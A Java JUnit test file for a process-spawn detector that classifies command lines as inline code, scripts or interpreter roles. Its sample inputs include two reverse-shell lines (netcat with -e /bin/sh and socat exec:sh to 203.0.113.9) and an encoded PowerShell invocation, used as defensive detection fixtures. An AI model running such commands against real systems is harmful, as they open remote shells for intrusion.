package dev.rubato.detect.spawn;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.rubato.event.ProcessImage;
import dev.rubato.lineage.ProgramRole;
import java.util.Arrays;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CommandTest {
    private static Command of(String line) {
        List<String> args = Arrays.asList(line.split(" "));
        return Command.of(new ProcessImage(args.getFirst(), args, true, "", 0, -1, ProcessImage.Stdin.UNKNOWN, "", ""));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/bin/sh -c id",
                "/bin/bash -lc id",
                "/bin/bash -o pipefail -c id",
                "/bin/bash --norc -c id",
                "/bin/bash -p -c id",
                "/bin/busybox sh -c id",
                "sh -c id",
                "/usr/bin/python3.11 -c x",
                "/usr/bin/python3 -I -c x",
                "/usr/bin/python3 -Ic x",
                "/usr/bin/python3 -O -c x",
                "/usr/bin/python3 -X dev -c x",
                "/usr/bin/node -e x",
                "/usr/bin/node --require y --eval x",
                "/usr/bin/perl -ne x",
                "/usr/bin/ruby -e x",
                "/usr/bin/php -r x",
                "C:\\Windows\\System32\\cmd.exe /d /c x",
                "powershell.exe -NoProfile -enc x",
                "/usr/bin/nc -e /bin/sh 203.0.113.9 1",
                "/usr/bin/socat tcp:203.0.113.9:1 exec:sh"
            })
    void aProgramInTheArgumentsIsFound(String line) {
        assertTrue(of(line).inline(), line);
        assertTrue(of(line).isCandidate(), line);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/bin/sh /opt/run.sh -c",
                "/bin/bash",
                "/bin/sh -s",
                "/usr/bin/python3 app.py -c",
                "/usr/bin/python3 -m http.server",
                "/usr/bin/node server.js -e",
                "/usr/bin/perl script.pl",
                "/usr/bin/curl -c jar https://example.org",
                "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
                "/usr/bin/make -e"
            })
    void aScriptWithArgumentsOfItsOwnIsNotInline(String line) {
        assertFalse(of(line).inline(), line);
    }

    @Test
    void theScriptIsTheFirstArgumentThatIsNoOption() {
        assertEquals("app.py", of("/usr/bin/python3 -u app.py x").script());
        assertEquals("uvicorn", of("/usr/bin/python3 -m uvicorn app:app").script());
        assertEquals("y.jar", of("/usr/bin/java -Xmx1g -jar y.jar").script());
        assertEquals("org.Main", of("/usr/bin/java -cp a:b org.Main x").script());
        assertEquals(
                "org.Main",
                of("/usr/bin/java --add-exports java.base/sun.nio.ch=ALL-UNNAMED org.Main x")
                        .script());
        assertEquals(
                "web/org.Main", of("/usr/bin/java -p lib -m web/org.Main x").script());
        assertEquals("", of("/usr/bin/git clone x").script());
    }

    @Test
    void aScriptHasTheRoleOfItsInterpreter() {
        Command script = Command.of(new ProcessImage(
                "/tmp/run", List.of("/bin/sh", "/tmp/run"), true, "", 0, -1, ProcessImage.Stdin.UNKNOWN, "", ""));
        assertEquals(ProgramRole.SHELL, script.role());
        assertEquals("/tmp/run", script.script());
        assertEquals("shell/sh", script.childClass());
    }

    @Test
    void aMultiCallBinaryHasTheRoleOfItsApplet() {
        assertEquals("transfer/wget", of("/bin/busybox wget x").childClass());
        assertFalse(of("/bin/busybox ls").isCandidate());
    }

    @Test
    void versionsDoNotMakeAnotherClass() {
        assertEquals("interpreter/python", of("/usr/bin/python3.11 x.py").childClass());
        assertEquals("interpreter/python", of("/usr/bin/python3 y.py").childClass());
    }

    @Test
    void codeThatOnlyBeginsLikeAPythonWorkerIsInline() {
        ProcessImage image = new ProcessImage(
                "/usr/bin/python3",
                List.of(
                        "python3",
                        "-c",
                        "from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5); import os",
                        "--multiprocessing-fork"),
                true,
                "",
                0,
                -1,
                ProcessImage.Stdin.UNKNOWN,
                "",
                "");
        assertTrue(Command.of(image).inline());
    }

    @Test
    void onlyAnInterpreterWithoutScriptReadsItsProgramFromInput() {
        assertTrue(of("/bin/sh").readsProgramFromInput());
        assertTrue(of("/bin/bash -s").readsProgramFromInput());
        assertTrue(of("/usr/bin/python3 -").readsProgramFromInput());
        assertFalse(of("/bin/sh -c id").readsProgramFromInput());
        assertFalse(of("/usr/bin/curl x").readsProgramFromInput());
    }
}
